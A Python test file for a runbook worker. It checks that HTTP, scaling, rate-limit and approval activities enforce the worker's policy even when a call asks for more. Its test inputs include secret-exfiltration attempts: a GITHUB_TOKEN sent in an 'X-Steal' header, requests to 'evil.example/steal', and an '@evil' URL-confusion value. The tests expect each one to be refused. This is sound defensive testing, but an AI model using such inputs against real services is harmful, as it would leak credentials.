"""The activities read every limit from the worker's policy, never from the call: an http step's secrets, URL base,
origin and address permissions, the namespace allow-list, the replica ceiling and the rate limit. And an approval
is decided only by a person of the roster who holds an approving role at that moment.

The calls here are what a run started before runbooks-by-name (or anything else that reaches the activities)
could send; the capture server stands for the attacker's host and must never see the worker's GITHUB_TOKEN.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment, WorkflowEnvironment

from activities.runbook import GuardActivities, RunbookActivities
from tests.support.harness import run_workers
from tests.support.paths import ROOT
from tests.support.runbook_stack import DB_TOKEN, write_policy
from tests.support.vendor_server import Reply, VendorServer
from tocsin.policy.loader import load_policy
from tocsin.policy.schema import Policy
from tocsin.roster import resolve
from tocsin.runbook.approvals import approver_problem, approvers_now
from tocsin.runbook.contracts import HttpCall, ScaleApply, ScaleRead
from tocsin.runbook.guard_contracts import AcquireRequest
from tocsin.runbook.kubernetes import Kubernetes, Scale
from tocsin.runbook.plan_contracts import PlannedApproval, PlannedHttp
from tocsin.runbook.steps import SecretRef
from tocsin.settings import Settings

GITHUB_TOKEN = "ghp_w0rker-t0ken-never-sent"


@pytest.fixture
def policy(tmp_path: Path) -> Policy:
    return load_policy(write_policy(tmp_path))


@pytest.fixture
def capture() -> Iterator[VendorServer]:
    with VendorServer() as running:
        yield running


def _no_cluster() -> Kubernetes:
    raise AssertionError("the activity reached for the cluster before checking the policy")


def _activities(policy: Policy, capture: VendorServer) -> RunbookActivities:
    env = {"TOCSIN_DB_ADMIN_URL": capture.url, "TOCSIN_DB_ADMIN_TOKEN": DB_TOKEN, "GITHUB_TOKEN": GITHUB_TOKEN}
    return RunbookActivities(policy, kubernetes=_no_cluster, env=env)


def _http(**fields: Any) -> PlannedHttp:
    step = {
        "name": "enable_read_replicas",
        "timeout": timedelta(seconds=5),
        "method": "POST",
        "url": "${TOCSIN_DB_ADMIN_URL}/databases/orders/read-replicas",
        "headers": {"Authorization": SecretRef(secret="TOCSIN_DB_ADMIN_TOKEN", prefix="Bearer ")},
    }
    return PlannedHttp.model_validate({**step, **fields})


async def test_the_policy_steps_secret_and_base_are_sent_whatever_the_call_says(
    policy: Policy, capture: VendorServer
) -> None:
    capture.on("POST", "/databases/orders/read-replicas", Reply(204))
    asks_for_github = _http(
        headers={"Authorization": SecretRef(secret="GITHUB_TOKEN", prefix="token ")}, method="DELETE", expect=[404]
    )
    call = HttpCall(step=asks_for_github, idempotency_key="k", runbook="database_performance_optimization")
    result = await _activities(policy, capture).http(call)
    assert result.status == 204  # the policy's expect (200/204), not the call's
    [request] = capture.requests
    assert (request.method, request.headers["authorization"]) == ("POST", f"Bearer {DB_TOKEN}")
    assert GITHUB_TOKEN not in str(request.headers)


@pytest.mark.parametrize(
    ("runbook", "fields", "refusal"),
    [
        (
            "database_performance_optimization",
            {"headers": {"X-Steal": SecretRef(secret="GITHUB_TOKEN")}},
            "headers the policy does not declare: X-Steal",
        ),
        ("database_performance_optimization", {"url": "${GITHUB_TOKEN}/x"}, "the URL does not start with"),
        ("database_performance_optimization", {"url": "https://evil.example/steal"}, "the URL does not start with"),
        ("database_performance_optimization", {"url": "${TOCSIN_DB_ADMIN_URL}@evil/x"}, "the URL does not start"),
        ("database_performance_optimization", {"name": "exfiltrate"}, "has no step 'exfiltrate'"),
        ("database_performance_optimization", {"name": "approve"}, "is not an http step in this policy"),
        ("nope", {}, "runbook 'nope' is not in this worker's policy"),
        (None, {}, "the call names no runbook"),
    ],
)
async def test_an_http_call_beyond_the_policy_step_is_refused(
    policy: Policy, capture: VendorServer, runbook: str | None, fields: dict[str, Any], refusal: str
) -> None:
    call = HttpCall(step=_http(**fields), idempotency_key="k", runbook=runbook)
    with pytest.raises(ApplicationError) as err:
        await _activities(policy, capture).http(call)
    assert refusal in str(err.value)
    assert err.value.non_retryable and err.value.type == "GuardrailViolation"
    assert capture.requests == []


async def test_address_permissions_come_from_the_policy_step(capture: VendorServer, tmp_path: Path) -> None:
    """The default policy's step does not allow loopback: a call that says it may is refused all the same."""
    strict = load_policy(ROOT / "policies" / "default.yaml")
    call = HttpCall(step=_http(allow_loopback=True), idempotency_key="k", runbook="database_performance_optimization")
    with pytest.raises(ApplicationError, match="refused: the host is a loopback address"):
        await _activities(strict, capture).http(call)
    assert capture.requests == []


async def test_namespaces_and_the_replica_ceiling_come_from_the_policy(policy: Policy, capture: VendorServer) -> None:
    activities = _activities(policy, capture)
    widened = ScaleRead(
        namespace="kube-system",
        deployment="coredns",
        runbook="service_recovery_playbook",
        allowed_namespaces=["kube-system"],
    )
    with pytest.raises(ApplicationError, match="'kube-system' is not in the runbook's allowed_namespaces"):
        await activities.get_scale(widened)
    above = ScaleApply(
        runbook="service_recovery_playbook",
        step="scale_out",
        target=500,
        based_on=Scale(namespace="production", deployment="checkout", replicas=3),
        wait_for_rollout=False,
        rollout_within=60,
    )
    with pytest.raises(ApplicationError, match="500 replicas is above the policy's ceiling of 20"):
        await activities.apply_scale(above)
    with pytest.raises(ApplicationError, match="the call names no runbook"):
        await activities.get_scale(widened.model_copy(update={"runbook": None, "namespace": "production"}))


async def test_the_rate_limit_is_the_policys(env: WorkflowEnvironment, tmp_path: Path, policy: Policy) -> None:
    """A request asking for 1,000 runs an hour gets the policy's 3."""
    guard = GuardActivities(env.client, policy)
    asks = {"runbook": "service_recovery_playbook", "lease": timedelta(minutes=1), "max_runs": 1000}

    def run(n: int) -> ActivityEnvironment:
        # Each run its own activity: the guard answers a repeated update id with its first answer.
        activity_env = ActivityEnvironment()
        activity_env.info = dataclasses.replace(activity_env.info, workflow_id=f"runbook-t-{n}", activity_id="1")
        return activity_env

    async with run_workers(env.client, Settings(home=tmp_path / "home")):
        answers = [
            await run(n).run(
                guard.acquire, AcquireRequest(service=f"svc{n}", holder=f"run-{n}", per=timedelta(seconds=1), **asks)
            )
            for n in range(4)
        ]
    assert [a.granted for a in answers] == [True, True, True, False]
    assert answers[3].reason == "rate limit: service_recovery_playbook ran 3 times in the last 1 hour (at most 3)"
    unknown = AcquireRequest(service="x", runbook="nope", holder="run-9", lease=timedelta(minutes=1))
    refused = await run(9).run(guard.acquire, unknown)
    assert not refused.granted and refused.reason == "runbook 'nope' is not in this worker's policy"


# --- who may approve ------------------------------------------------------------------------------------------


def test_only_a_roster_person_holding_an_approving_role_now_may_approve(policy: Policy) -> None:
    step = PlannedApproval(
        name="approve",
        timeout=timedelta(minutes=5),
        approvers=["primary_oncall", "engineering_manager", "frank"],
        default="reject",
    )
    now = datetime.now(UTC)
    on_call = resolve(policy.roster, "primary_oncall", now).people[0].id
    off_call = next(p for p in ("alice", "bob", "carol", "dave") if p != on_call)
    assert approvers_now(policy.roster, step, now) == [on_call, "erin", "frank"]
    for who in (on_call, "erin", "frank"):  # on call now, a team's member, a person named
        assert approver_problem(policy.roster, step, who, now) is None
    holders = f"now: {on_call}, erin, frank"
    assert approver_problem(policy.roster, step, off_call, now) == (
        f"'{off_call}' is not an approver of approve (primary_oncall, engineering_manager, frank; {holders})"
    )
    for typed in ("primary_oncall", "engineering_manager", "Frank Ito", "mallory"):
        assert approver_problem(policy.roster, step, typed, now) == (
            f"{typed!r} is not an approver of approve (primary_oncall, engineering_manager, frank): "
            "not a person of the roster"
        )
    # A week later someone else is on call: the role is checked at the moment of deciding.
    later = now + timedelta(weeks=1)
    assert approver_problem(policy.roster, step, on_call, later) is not None
